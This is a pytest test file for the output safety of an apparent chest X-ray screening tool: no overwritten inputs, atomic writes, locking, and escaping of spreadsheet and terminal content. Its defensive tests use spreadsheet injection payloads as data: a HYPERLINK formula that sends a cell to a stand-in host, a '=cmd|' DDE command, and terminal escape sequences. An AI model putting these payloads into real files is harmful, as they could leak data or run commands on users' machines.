"""What skcxr screen/evaluate write: never over an input, whole, one run at a time, safe to open.

One test per harm found in the "trustworthy by default" audit.
"""

import csv
import io
import os
import shutil
import signal
import subprocess
import sys

import pytest
from conftest import REPO_ROOT, write_dicom_film

from skcxr.cli import main
from skcxr.screener import WorklistRow, decode_worklist_cell, write_worklist


def run(argv, capsys):
    """``skcxr argv`` in this process: (exit status, stdout, stderr)."""
    status = main([a if isinstance(a, str) else os.fspath(a) for a in argv])
    out, err = capsys.readouterr()
    return status, out, err


def copy_films(tiny_screener, folder, n=4):
    """``n`` of the tiny screener's PNG films in ``folder``; their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for i, source in enumerate(tiny_screener["paths"][:n]):
        paths.append(folder / f"{i:02d}.png")
        shutil.copy(source, paths[-1])
    return paths


def read_rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def spreadsheet_records(text):
    """Records as a spreadsheet splits them: at CR, LF or CRLF outside double quotes."""
    records, field_quoted, i, start = [], False, 0, 0
    while i < len(text):
        ch = text[i]
        if ch == '"':
            field_quoted = not field_quoted
        elif ch in "\r\n" and not field_quoted:
            records.append(text[start:i])
            if ch == "\r" and text[i + 1:i + 2] == "\n":
                i += 1
            start = i + 1
        i += 1
    if start < len(text):
        records.append(text[start:])
    return records


def leftovers(folder):
    """Hidden temporary, probe and lock files left in ``folder``."""
    return sorted(name for name in os.listdir(folder)
                  if name.startswith(".") and name.endswith((".tmp", ".probe", ".lock")))


@pytest.fixture
def no_screening(monkeypatch):
    """Fails the test if a single file is screened (the check must come first)."""

    def screen_files(*args, **kwargs):
        raise AssertionError("files were screened before the outputs were checked")

    monkeypatch.setattr("skcxr.cli._screen.screen_files", screen_files)


# ------------------------------------------------ 1. an output over an input
@pytest.mark.parametrize("how", ["found in the folder", "named as a file", "through a symlink",
                                 "as the report", "in evaluate"])
def test_out_over_an_input_film_is_refused_and_the_film_kept(how, tiny_screener, tmp_path,
                                                             capsys, no_screening):
    films = copy_films(tiny_screener, tmp_path / "d")
    film_bytes = films[1].read_bytes()
    target = films[1]
    if how == "through a symlink":
        target = tmp_path / "link.csv"
        target.symlink_to(films[1])
    inputs = [films[0], films[1]] if how == "named as a file" else [tmp_path / "d"]
    option = "--report" if how == "as the report" else "--out"
    command = ["screen", *inputs]
    if how == "in evaluate":
        films[1] = tmp_path / "d" / "NORMAL" / "01.png"
        films[1].parent.mkdir()
        (tmp_path / "d" / "PNEUMONIA").mkdir()
        shutil.move(target, films[1])
        target, command = films[1], ["evaluate", tmp_path / "d"]
    status, out, err = run([*command, "--model", tiny_screener["file"], option, target], capsys)
    assert status == 2 and out == ""
    assert f"error: {option} {str(target)!r} is the input file {str(films[1])!r}" in err
    assert "would destroy the input" in err
    assert films[1].read_bytes() == film_bytes
    assert leftovers(tmp_path / "d") == []


def test_out_and_report_naming_one_file_is_a_usage_error(tiny_screener, tmp_path, capsys,
                                                         no_screening):
    films = copy_films(tiny_screener, tmp_path / "d", n=1)
    (tmp_path / "sub").mkdir()
    status, _, err = run(["screen", films[0], "--model", tiny_screener["file"],
                          "--out", tmp_path / "both", "--report", tmp_path / "sub" / ".." / "both"],
                         capsys)
    assert status == 2
    assert (f"--out {str(tmp_path / 'both')!r} and --report "
            f"{str(tmp_path / 'sub' / '..' / 'both')!r} are the same file") in err
    assert not (tmp_path / "both").exists()


# --------------------------------------- 2. a file name that is not UTF-8
def test_a_non_utf8_file_name_gets_its_row_and_the_worklist_and_report_are_written(
        tiny_screener, tmp_path, capsys):
    folder = tmp_path / "d"
    copy_films(tiny_screener, folder, n=3)
    odd = os.path.join(os.fsencode(folder), b"IM-\xff\\x41.png")  # not UTF-8, and a backslash
    try:
        shutil.copy(tiny_screener["paths"][3], odd)
    except OSError:
        pytest.skip("this file system refuses names that are not UTF-8")
    status, _, err = run(["screen", folder, "--model", tiny_screener["file"],
                          "--out", tmp_path / "w.csv", "--report", tmp_path / "r.html"], capsys)
    assert status == 0, err
    text = (tmp_path / "w.csv").read_bytes().decode("utf-8")  # valid UTF-8
    rows = read_rows(tmp_path / "w.csv")
    assert len(rows) == 4 and all(r["status"] == "screened" for r in rows)
    [row] = [r for r in rows if "IM-" in r["path"]]
    assert row["path"].endswith("IM-\\xff\\x5cx41.png")  # the byte escaped, the backslash too
    decoded = decode_worklist_cell(row["path"])
    assert os.fsencode(decoded) == odd and os.path.isfile(decoded)
    assert "IM-" in text
    report = (tmp_path / "r.html").read_bytes().decode("utf-8")
    assert "<b>IM-\\xff\\x5cx41.png</b>" in report.replace("<wbr>", "")  # wrap points aside


# ------------------------------------------ 3. safe to open in a spreadsheet
FORMULA_NAMES = ["=1+2.png", "+cmd.png", "-2+3.png", "@SUM(A1).png", "\tTAB.png", "\rCR.png",
                 "'=quoted.png", "cr\rinside.png", "lf\ninside.png", "plain.png"]


def test_formula_cells_are_neutralised_and_every_file_is_one_row(tiny_screener, tmp_path, capsys,
                                                                 monkeypatch):
    folder = tmp_path / "d"
    folder.mkdir()
    for name in FORMULA_NAMES:
        shutil.copy(tiny_screener["paths"][0], folder / name)
    write_dicom_film(folder / "study.dcm", tiny_screener["paths"][1],
                     PatientID='=HYPERLINK("http://x.example/?"&A1,"open")', AccessionNumber="-1+1")
    monkeypatch.chdir(folder)  # the paths are written as given: "=1+2.png", not "/tmp/.../"
    status, _, err = run(["screen", "--model", tiny_screener["file"], "--out", tmp_path / "w.csv",
                          "--", *FORMULA_NAMES, "study.dcm"], capsys)
    assert status == 0, err
    text = (tmp_path / "w.csv").read_bytes().decode("utf-8")
    n_files = len(FORMULA_NAMES) + 1
    # One record per file, for the csv module and for a spreadsheet's reading alike.
    assert len(spreadsheet_records(text)) == 1 + n_files
    rows = read_rows(tmp_path / "w.csv")
    assert len(rows) == n_files
    for row in rows:
        for column in ("path", "reason", "PatientID", "AccessionNumber"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row[column]
    by_name = {decode_worklist_cell(r["path"]): r for r in rows}
    assert sorted(by_name) == sorted([*FORMULA_NAMES, "study.dcm"])
    assert by_name["=1+2.png"]["path"] == "'=1+2.png"
    assert by_name["'=quoted.png"]["path"] == "''=quoted.png"
    assert by_name["plain.png"]["path"] == "plain.png"
    study = by_name["study.dcm"]
    assert study["PatientID"] == '\'=HYPERLINK("http://x.example/?"&A1,"open")'
    assert decode_worklist_cell(study["PatientID"]) == '=HYPERLINK("http://x.example/?"&A1,"open")'
    assert study["AccessionNumber"] == "'-1+1" and study["score"][0].isdigit()
    assert all(os.path.isfile(name) for name in by_name)


def test_relative_paths_starting_like_a_formula_get_a_quote(tmp_path):
    rows = [WorklistRow(0, "=1+2.png", "screened", 0.5, True),
            WorklistRow(1, "-x.png", "error", reason="=cmd|' /C calc'!A0", code="unreadable"),
            WorklistRow(2, "'@x.png", "screened", 0.25, False, label="@label"),
            WorklistRow(3, "a\rb.png", "screened", 0.125, False, label="-"),
            WorklistRow(4, "\tt.png", "screened", 0.0, False, label="PNEUMONIA")]
    out = io.StringIO()
    write_worklist(rows, out, with_labels=True)
    assert out.getvalue().split("\n") == [
        "path,score,flagged,status,reason,reason_code,true_label",
        "'=1+2.png,0.500000,true,screened,,,",
        "'-x.png,,,error,'=cmd|' /C calc'!A0,unreadable,",
        "''@x.png,0.250000,false,screened,,,'@label",
        "a\\x0db.png,0.125000,false,screened,,,'-",
        "'\tt.png,0.000000,false,screened,,,PNEUMONIA",
        "",
    ]
    back = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
    assert [decode_worklist_cell(r[0]) for r in back] == [r.path for r in rows]
    assert [decode_worklist_cell(r[6]) for r in back] == ["", "", "@label", "-", "PNEUMONIA"]
    assert back[0][1] == "0.500000"  # the score is a number, left as it is


def test_terminal_controls_in_a_name_are_escaped_not_obeyed(tmp_path):
    """Audit: a name holding ESC [1A ESC [2K, in a worklist printed to a terminal, erased the
    row above it."""
    names = ["a\x1b[1A\x1b[2Kfake.jpeg", "b\x9b2J.png", "c\x07bell.png", "lit\\x1b.png",
             "tab\tkept.png", "CR\rover.jpeg", "\u202eRTL.jpeg", "LS\u2028PS\u2029.png"]
    out = io.StringIO()
    write_worklist([WorklistRow(i, name, "screened", 0.5, True) for i, name in enumerate(names)],
                   out)
    text = out.getvalue()
    assert not any(ch in text for ch in "\x1b\x9b\x07\r\u202e\u2028\u2029")
    assert len(text.splitlines()) == 1 + len(names)  # one line per row
    assert "a\\x1b[1A\\x1b[2Kfake.jpeg" in text and "b\\u009b2J.png" in text
    back = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [decode_worklist_cell(row[0]) for row in back] == names


# ------------------------------------------------- 4. work lost at the end
@pytest.fixture
def unwritable_folder(tmp_path):
    """A folder in which no file can be created, even by root (who ignores permissions)."""
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        for candidate in (folder, "/sys"):  # sysfs takes no new files, whoever asks
            try:
                fd = os.open(os.path.join(candidate, ".probe"), os.O_CREAT | os.O_WRONLY)
            except OSError:
                yield str(candidate)
                return
            os.close(fd)
            os.unlink(os.path.join(candidate, ".probe"))
        pytest.skip("no folder here refuses a new file")
    finally:
        folder.chmod(0o700)


@pytest.mark.parametrize("option", ["--out", "--report"])
def test_unwritable_output_is_a_usage_error_before_any_screening(option, unwritable_folder,
                                                                 tiny_screener, tmp_path,
                                                                 capsys, no_screening):
    films = copy_films(tiny_screener, tmp_path / "d", n=1)
    target = os.path.join(unwritable_folder, "w.out")
    status, out, err = run(["screen", films[0], "--model", tiny_screener["file"],
                            option, target], capsys)
    assert status == 2 and out == ""
    assert f"error: {option} {target!r}: cannot create a file in folder" in err
    assert "nothing was screened" in err


def test_readers_see_the_old_worklist_or_the_new_one_never_a_part(tiny_screener, tmp_path,
                                                                    capsys, monkeypatch):
    import skcxr.cli._screen as screen

    films = copy_films(tiny_screener, tmp_path / "d")
    out = tmp_path / "w.csv"
    out.write_text("the previous worklist\n")
    out.chmod(0o640)
    seen = []
    real_write = screen.write_worklist

    def write_and_look(rows, file, **kwargs):
        real_write(rows, file, **kwargs)
        file.flush()  # all written but not yet in place: a reader polling the worklist now...
        seen.append(out.read_text())

    monkeypatch.setattr(screen, "write_worklist", write_and_look)
    status, _, err = run(["screen", *films, "--model", tiny_screener["file"], "--out", out],
                         capsys)
    assert status == 0, err
    assert seen == ["the previous worklist\n"]  # ...sees the old one whole
    assert len(read_rows(out)) == 4  # ...and then the new one whole
    assert oct(out.stat().st_mode & 0o777) == oct(0o640)  # the file keeps its permissions
    assert leftovers(tmp_path) == []


def test_a_failed_write_leaves_the_previous_worklist_untouched(tiny_screener, tmp_path, capsys,
                                                               monkeypatch):
    import skcxr.cli._screen as screen

    films = copy_films(tiny_screener, tmp_path / "d")
    out = tmp_path / "w.csv"
    out.write_text("the previous worklist\n")

    def disk_full(rows, file, **kwargs):
        file.write("path,score\n")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(screen, "write_worklist", disk_full)
    status, _, err = run(["screen", *films, "--model", tiny_screener["file"], "--out", out],
                         capsys)
    assert status == 1
    assert (f"error: The worklist {str(out)!r} could not be written (OSError: [Errno 28] No "
            "space left on device)") in err
    assert out.read_text() == "the previous worklist\n"
    assert leftovers(tmp_path) == []


def test_report_failure_keeps_the_worklist_and_says_so(tiny_screener, tmp_path, capsys,
                                                       monkeypatch):
    films = copy_films(tiny_screener, tmp_path / "d")

    def disk_full(path, *args, **kwargs):
        with open(path, "w") as f:
            f.write("<!DOCTYPE html>")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("skcxr.cli._screen.write_report", disk_full)
    status, _, err = run(["screen", *films, "--model", tiny_screener["file"],
                          "--out", tmp_path / "w.csv", "--report", tmp_path / "r.html"], capsys)
    assert status == 1
    assert (f"The report {str(tmp_path / 'r.html')!r} could not be written (OSError: [Errno 28] "
            f"No space left on device). Every file was screened and the worklist was written to "
            f"{str(tmp_path / 'w.csv')!r}.") in err
    assert len(read_rows(tmp_path / "w.csv")) == 4
    assert not (tmp_path / "r.html").exists() and leftovers(tmp_path) == []


HOLD_LOCK = """
import sys
from skcxr.cli._output import OutputLocks
with OutputLocks([("--out", sys.argv[1])], "skcxr screen other-run"):
    print("locked", flush=True)
    sys.stdin.read()
"""


def test_a_second_run_on_the_same_worklist_stops_at_once_and_a_dead_runs_lock_does_not_block(
        tiny_screener, tmp_path, capsys, monkeypatch):
    films = copy_films(tiny_screener, tmp_path / "d", n=2)
    out = tmp_path / "w.csv"
    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT)}
    first = subprocess.Popen([sys.executable, "-c", HOLD_LOCK, str(out)], env=env,
                             stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert first.stdout.readline() == "locked\n"

        def screen_files(*args, **kwargs):
            raise AssertionError("the second run screened files")

        with monkeypatch.context() as patch:
            patch.setattr("skcxr.cli._screen.screen_files", screen_files)
            status, _, err = run(["screen", *films, "--model", tiny_screener["file"],
                                  "--out", out], capsys)
        assert status == 2
        assert (f"error: --out {str(out)!r} is being written by another skcxr run (process "
                f"{first.pid} on ") in err
        assert "skcxr screen other-run" in err and "Wait for it to finish" in err
        assert not out.exists()
    finally:
        first.send_signal(signal.SIGKILL)  # dies holding the lock, as a crashed run would
        first.wait()
    assert os.path.exists(tmp_path / ".w.csv.lock")  # its lock file is left behind...
    status, _, err = run(["screen", *films, "--model", tiny_screener["file"], "--out", out],
                         capsys)
    assert status == 0, err  # ...but the system released the lock with the process
    assert len(read_rows(out)) == 2 and leftovers(tmp_path) == []


def test_pipes_and_devices_are_written_directly(tiny_screener, tmp_path, capsys):
    films = copy_films(tiny_screener, tmp_path / "d", n=2)
    status, _, err = run(["screen", *films, "--model", tiny_screener["file"],
                          "--out", os.devnull], capsys)
    assert status == 0, err
    assert os.path.exists(os.devnull) and not os.path.isfile(os.devnull)  # still the device


def test_a_worklist_that_cannot_be_written_after_the_screen_is_saved_elsewhere(
        tiny_screener, tmp_path, capsys, monkeypatch):
    """The output folder vanished (or the disk filled) after the screen: the rows are kept."""
    import tempfile

    import skcxr.cli._screen as screen

    films = copy_films(tiny_screener, tmp_path / "d")
    rescue = tmp_path / "rescue"
    rescue.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(rescue))
    real = screen.replaced_atomically

    def vanished(path):
        if str(path).endswith("w.csv"):
            raise FileNotFoundError(2, "No such file or directory", str(path))
        return real(path)

    monkeypatch.setattr(screen, "replaced_atomically", vanished)
    status, _, err = run(["screen", *films, "--model", tiny_screener["file"],
                          "--out", tmp_path / "w.csv"], capsys)
    assert status == 1
    saved = list(rescue.glob("skcxr-worklist-*.csv"))
    assert len(saved) == 1 and f"its rows were saved to {str(saved[0])!r} instead" in err
    assert len(list(csv.DictReader(saved[0].open()))) == len(films)


def test_an_output_under_a_file_says_it_is_a_file(tiny_screener, tmp_path, capsys):
    films = copy_films(tiny_screener, tmp_path / "d")
    (tmp_path / "afile").write_text("x")
    status, _, err = run(["screen", *films, "--model", tiny_screener["file"],
                          "--out", tmp_path / "afile" / "w.csv"], capsys)
    assert status == 2 and "afile' is a file, not a folder" in err


def test_a_summary_that_cannot_be_written_is_named(tiny_screener, tmp_path, capsys, monkeypatch):
    import skcxr.cli._screen as screen

    films = copy_films(tiny_screener, tmp_path / "d")
    real = screen.replaced_atomically

    def full(path):
        if str(path).endswith(".json"):
            raise OSError(28, "No space left on device")
        return real(path)

    monkeypatch.setattr(screen, "replaced_atomically", full)
    status, _, err = run(["screen", *films, "--model", tiny_screener["file"], "--out",
                          tmp_path / "w.csv", "--summary-json", tmp_path / "s.json"], capsys)
    assert status == 1 and f"The summary {str(tmp_path / 's.json')!r} could not be written" in err
    assert (tmp_path / "w.csv").exists()
